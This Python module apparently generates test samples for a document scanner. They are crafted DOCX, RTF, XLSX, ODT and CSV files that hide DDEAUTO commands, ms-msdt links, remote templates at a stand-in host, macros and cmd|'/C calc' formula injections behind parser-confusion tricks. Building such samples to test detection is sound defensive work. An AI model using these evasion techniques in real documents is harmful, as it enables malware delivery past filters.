"""Office documents in which a field, a link or a part is an action only for some programs."""

from carriers import OFFICE, PACKAGE, W, WORD, archive, content_types, docx, odt, relations, rtf, xlsx

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))


def attacks():
    for name, data in _fields():
        yield f"{name} in a DOCX", DOCX, "a.docx", data, None
    for name, data in _relations():
        yield name, DOCX, "a.docx", data, None
    for name, data in _rich_texts():
        yield f"{name} in RTF", "application/rtf", "a.rtf", data, None
    for name, data in _workbooks():
        yield name, XLSX, "a.xlsx", data, None
    for name, data in _open_documents():
        yield name, ODT, "a.odt", data, None
    for name, formula in _formulas():
        yield f"formula behind {name} in CSV", "text/csv", "a.csv", f"a,b\n1,{formula}\n".encode(), None
        text = formula.strip('"').replace('""', "&quot;")
        book = f'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="A"><Table><Row><Cell ss:Formula="{text}"/></Row></Table></Worksheet></Workbook>'
        yield f"formula behind {name} in a workbook", "application/vnd.ms-spreadsheetml", "a.xml", f'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>{book}'.encode(), None


def _run(text):
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def _field(inner):
    spaces = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x" mc:Ignorable="x"'
    return f"<w:p {spaces}>{BEGIN}{inner}{SEPARATE}<w:r><w:t>x</w:t></w:r>{END}</w:p>"


def _fields():
    choice = '<w:r><mc:AlternateContent><mc:Choice Requires="x">{}</mc:Choice><mc:Fallback/></mc:AlternateContent></w:r>'
    foreign = '<x:fldChar x:fldCharType="end"/>'
    box = f"<w:r><w:pict><w:txbxContent><w:p>{END}</w:p></w:txbxContent></w:pict></w:r>"
    for name, start, rest in (("DDE", "D", "DEAUTO c:\\\\cmd x"), ("link", "H", 'YPERLINK "ms-msdt:/id"')):
        bodies = {
            "foreign end": _run(start) + foreign + _run(rest), "foreign end in a run": f"{_run(start)}<w:r>{foreign}</w:r>{_run(rest)}",
            "end in an alternative": _run(start) + choice.format('<w:fldChar w:fldCharType="end"/>') + _run(rest), "end in a box": _run(start) + box + _run(rest),
            "instruction in an alternative": choice.format("<w:instrText>PAGE</w:instrText>") + _run(start + rest),
            "foreign instruction": "<x:instrText>PAGE</x:instrText>" + _run(start + rest), "child element": _run(f"{start}<x:y/>{rest}"),
            "text as instruction": f"<w:r><w:t>{start}{rest}</w:t></w:r>", "half as text": f"<w:r><w:t>{start}</w:t></w:r>{_run(rest)}", "wide blank": _run(f"\u00a0{start}{rest}"),
        }
        for kind, inner in bodies.items():
            yield f"{name} with a {kind}", docx(_field(inner))
        part = f'<w:document xmlns:w="{W}"><w:body>{_field(_run(start + rest))}</w:body></w:document>'
        for kind, path, stated in (("percent in a path", "a/document.xml", "/a/docum%65nt.xml"), ("backslash in a path", "a\\document.xml", "/a/document.xml")):
            yield f"{name} with a {kind}", archive(
                ("[Content_Types].xml", content_types(part=stated)), ("_rels/.rels", relations(("officeDocument", "a/document.xml", False))), (path, part))
    for text in ("HYPERLINK ms-msdt:/id", 'HYPERLINK \\o "tip" "ms-msdt:/id"', 'HYPERLINK "file:///c:/windows/system32/calc%2Eexe"'):
        yield f"link {text}", docx(_field(_run(text)))


def _relations():
    row = f'Id="r0" Type="{OFFICE}/attachedTemplate" Target="http://e.example/x.dotm" TargetMode="External"'
    for attribute in ('x:TargetMode="Internal"', 'x:Type="hyperlink"', 'x:Target="x.dotx"'):
        rows = f'<Relationships xmlns="{PACKAGE}/relationships" xmlns:x="urn:x"><Relationship {row} {attribute}/></Relationships>'
        yield f"template with {attribute}", docx(
            types=content_types(("/word/settings.xml", f"{WORD}.settings+xml")), links=[("settings", "settings.xml", False)],
            extra=[("word/settings.xml", f'<w:settings xmlns:w="{W}"/>'), ("word/_rels/settings.xml.rels", rows)])
    for target in ("\\??\\UNC\\e.example\\s\\x.dotm", "file:/\\\\e.example/x.dotm", "file://localhost//e.example/s/x.dotm"):
        yield f"template at {target}", docx(links=[("attachedTemplate", target, True)])
    ribbon = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="http://e.example/x.dotm!a"/>'
    extensibility = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
    for target in ("customUI/customUI.xml", "customUI/../x.xml", "x.xml"):
        rows = relations(("officeDocument", "word/document.xml", False)).replace("</Rel", f'<Relationship Id="r9" Type="{extensibility}" Target="{target}"/></Rel')
        path = "x.xml" if target.endswith("x.xml") else target
        yield f"ribbon at {target}", archive(("[Content_Types].xml", content_types()), ("_rels/.rels", rows), ("word/document.xml", f'<w:document xmlns:w="{W}"/>'), (path, ribbon))
    for target in ("vnd.sun.star.script:a?language=Basic", "macro:///a.b.c", "file:///c:/windows/calc.ex%65", "file:///c:/windows/calc.exe.", "file:///c:/windows/calc.exe%20", "%6ds-msdt:/id"):
        yield f"link to {target}", docx(links=[("hyperlink", target, True)])
    compound = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    for path in ("word/media/a.dat", "word/embeddings/a.xlsx"):
        yield f"object at {path}", docx(links=[("oleObject", path[5:], False)], extra=[(path, compound)])


def _rich_texts():
    texts = {
        "object behind counted bytes": rb"{\bin1 \\object\objemb{\bin1 \\*\bin1 \\objclass Package}{\bin1 \\*\bin1 \\objdata 0105000002000000}}",
        "DDE behind counted bytes": rb"{\field{\bin1 \\*\bin1 \\fldinst DDEAUTO c x}{\fldrslt x}}", "template behind counted bytes": rb"{\*\bin1 \\template http://e.example/x}",
        "template by a substitute": rb"{\*\template \u104#ttp://e.example/x}", "template with a counted byte": rb"{\*\template \bin1 #http://e.example/x}",
        "template behind lines": rb"{\*\template " + b"\r\n" * 2100 + b"http://e.example/x}", "DDE in a bookmark": rb"{\field{\*\fldinst {\bkmkstart a}DDEAUTO c x}{\fldrslt x}}",
        "DDE behind a header": rb"{\field{\*\fldinst {\header a}DDEAUTO c x}{\fldrslt x}}", "DDE in Unicode": rb"{\field{\*\fldinst {\upr{PAGE }{\*\ud{DDEAUTO c x}}}}{\fldrslt x}}",
        "DDE behind a wide blank": rb"{\field{\*\fldinst \'a0DDEAUTO c x}{\fldrslt x}}", "DDE by substitutes": rb"{\field{\*\fldinst \u68#\u68#EAUTO c x}{\fldrslt x}}",
        "link without quotes": rb"{\field{\*\fldinst HYPERLINK ms-msdt:/id}{\fldrslt x}}", "link in second quotes": rb'{\field{\*\fldinst HYPERLINK \\t "x" "ms-msdt:/id"}{\fldrslt x}}',
        "link behind counted bytes": rb'{\field{\bin1 \\*\bin1 \\fldinst HYPERLINK "ms-msdt:/id"}{\fldrslt x}}',
        "link in a bookmark": rb'{\field{\*\fldinst {\bkmkstart a}HYPERLINK "ms-msdt:/id"}{\fldrslt x}}',
        "DDE from a condition": rb'{\field{\*\fldinst {\field{\*\fldinst IF 1=1 "DDEAUTO"}{\fldrslt DDEAUTO}} c:\\\\cmd}{\fldrslt x}}',
    }
    for name, text in texts.items():
        yield name, rtf(text)


def _workbooks():
    shape = '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:sp macro="[1]!evil" textlink=""/></xdr:wsDr>'
    control = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape><x:ClientData><x:FmlaMacro>[1]!evil</x:FmlaMacro></x:ClientData></v:shape></xml>'
    kinds = {"drawing": "application/vnd.openxmlformats-officedocument.drawing+xml", "vmlDrawing": "application/vnd.openxmlformats-officedocument.vmlDrawing"}
    for kind, content, paths in (("drawing", shape, ("xl/drawings/drawing1.xml", "xl/d/a.xml")), ("vmlDrawing", control, ("xl/drawings/a.vml", "xl/d/a.dat"))):
        for path in paths:
            yield f"macro in {path}", xlsx(extra=[(path, content), ("xl/worksheets/_rels/sheet1.xml.rels", relations((kind, "/" + path, False)))], types=[("/" + path, kinds[kind])])
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "DDE link in another folder", xlsx(extra=[("xl/x/a.xml", link)], links=[("externalLink", "x/a.xml", False)])


def _open_documents():
    module = '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="a" script:language="StarBasic">Sub Main\nEnd Sub</script:module>'
    for name in ("dialog", "script", "dialog-lb", "script-lc"):
        yield f"module named {name}", odt(extra=[(f"Basic/Standard/{name}.xml", module)])
    for folder in ("Basic\\Standard\\", "/Basic/Standard/", "./Basic/Standard/", "Basic//Standard/", "BASIC/Standard/"):
        yield f"module in {folder}", odt(extra=[(f"{folder}Module1.xml", module)])
    yield "compiled module", odt(extra=[("Basic/Standard/script-lb.xml", "<library/>"), ("Basic/Standard/Module1.bin", "x")])
    table = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
    call = "(&quot;soffice&quot;;&quot;/tmp/x.ods&quot;;&quot;A1&quot;)"
    for formula in (f"of:=DDE{call}", f"of:=[.A2]+D&#68;E{call}", f"of:=[.A2]+DDE&#40;{call[1:]}"):
        yield f"formula {formula[:20]}", odt(f'<table:table-cell {table} table:formula="{formula}"/>')
    yield "formula of a condition", odt(f'<calcext:condition {table} calcext:value="formula-is(DDE{call}=1)"/>')


def _formulas():
    yield "a backtick", '"=LEN(""`"")+cmd|\'/C calc\'!A0"'
    yield "a bracket", '"=LEN(""["")+cmd|\'/C calc\'!A0"'
    yield "a tilde", '"=IF(""~""=""a"",1,cmd|\'/c calc\'!A0)"'
    yield "relative cells", "\"=SUM(A1,cmd|'/c calc'!A0)\""
